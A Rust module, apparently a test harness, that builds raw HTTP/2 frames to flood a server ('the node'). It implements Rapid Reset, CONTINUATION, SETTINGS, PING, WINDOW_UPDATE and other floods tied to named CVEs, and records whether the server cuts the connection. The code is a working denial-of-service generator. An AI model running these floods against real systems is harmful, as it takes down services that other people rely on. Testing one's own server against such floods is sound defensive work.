//! Floods of HTTP/2: frames that cost the node time, by hand, because no library sends them.

use std::time::{Duration, Instant};
use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::net::TcpStream;

/// What a flood consists of.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Flood {
    /// Requests that are taken back at once (CVE-2023-44487).
    Reset,
    /// Requests that the node itself must reset, because of a window that grows by 0
    /// (CVE-2025-8671).
    ResetByTheNode,
    /// A head that never ends (CVE-2024-27316).
    Continuation,
    /// Settings that change the windows of all requests, and want an acknowledgement
    /// (CVE-2019-9515).
    Settings,
    /// Pings, which want an acknowledgement (CVE-2019-9512).
    Ping,
    /// Priorities, which mean nothing today (CVE-2019-9513).
    Priority,
    /// A window of the connection that grows byte by byte (CVE-2019-9511 and others).
    Window,
    /// A body of empty pieces (CVE-2019-9518).
    EmptyData,
    /// Frames of a kind that nobody knows.
    Unknown,
}

impl Flood {
    pub const ALL: [Self; 9] = [
        Self::Reset,
        Self::ResetByTheNode,
        Self::Continuation,
        Self::Settings,
        Self::Ping,
        Self::Priority,
        Self::Window,
        Self::EmptyData,
        Self::Unknown,
    ];

    /// What comes before the frames that are repeated.
    fn begin(self) -> Vec<u8> {
        let mut bytes = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec();
        bytes.extend(frame(4, 0, 0, &[]));
        match self {
            // A head without its end.
            Self::Continuation => bytes.extend(frame(1, 1, 1, &head(GET))),
            // A request that waits for its body.
            Self::EmptyData => bytes.extend(frame(1, 4, 1, &head(POST))),
            _ => {}
        }
        bytes
    }

    /// The frames of one turn.
    fn turn(self, number: u32) -> Vec<u8> {
        let stream = 2 * number + 1;
        match self {
            Self::Reset => {
                [frame(1, 5, stream, &head(GET)), frame(3, 0, stream, &[0, 0, 0, 8])].concat()
            }
            Self::ResetByTheNode => {
                [frame(1, 5, stream, &head(GET)), frame(8, 0, stream, &[0; 4])].concat()
            }
            // A field that is not indexed: the name `x`, and 100 bytes.
            Self::Continuation => frame(9, 0, 1, &[&[0, 1, b'x', 100][..], &[b'y'; 100]].concat()),
            // SETTINGS_INITIAL_WINDOW_SIZE, another one each time.
            Self::Settings => frame(4, 0, 0, &[0, 4, 0, 0, (number % 200) as u8, 1]),
            Self::Ping => frame(6, 0, 0, &u64::from(number).to_be_bytes()),
            Self::Priority => frame(2, 0, stream, &[0, 0, 0, 0, 7]),
            Self::Window => frame(8, 0, 0, &[0, 0, 0, 1]),
            Self::EmptyData => frame(0, 0, 1, &[]),
            Self::Unknown => frame(0x77, 0, 0, &[1; 8]),
        }
    }
}

const GET: u8 = 0x82;
const POST: u8 = 0x83;

/// A frame with this kind, these flags, and of this request (0: of the connection).
fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = (payload.len() as u32).to_be_bytes();
    let mut bytes = vec![length[1], length[2], length[3], kind, flags];
    bytes.extend(stream.to_be_bytes());
    bytes.extend(payload);
    bytes
}

/// The fields of a request for the time, as HPACK writes them: the method, `http`, the path.
fn head(method: u8) -> Vec<u8> {
    let path = b"/api/time";
    [&[method, 0x86, 0x04, path.len() as u8], &path[..], &[0x41, 1, b'x']].concat()
}

/// How a flood ended.
#[derive(Debug, Clone, Copy, Default)]
pub struct Flooded {
    /// The bytes that the node has taken, or that are on their way to it.
    pub bytes: usize,
    /// How long it went on, if the node has ended it.
    pub ended: Option<Duration>,
}

/// Floods a connection, reading all that comes back, until the node ends it or `time` has passed.
pub async fn flood(kind: Flood, stream: TcpStream, time: Duration) -> Flooded {
    let (begun, (mut reading, mut writing)) = (Instant::now(), stream.into_split());
    let reader = tokio::spawn(async move {
        let mut bytes = vec![0; 64 * 1024];
        while reading.read(&mut bytes).await.is_ok_and(|count| count > 0) {}
    });
    let mut sent = 0;
    let writer = async {
        if writing.write_all(&kind.begin()).await.is_err() {
            return;
        }
        for round in 0.. {
            let turns = (round * 500..(round + 1) * 500).flat_map(|number| kind.turn(number));
            let bytes: Vec<u8> = turns.collect();
            if reader.is_finished() || writing.write_all(&bytes).await.is_err() {
                return;
            }
            sent += bytes.len();
        }
    };
    let ended = tokio::time::timeout(time, writer).await.is_ok();
    reader.abort();
    Flooded { bytes: sent, ended: ended.then(|| begun.elapsed()) }
}
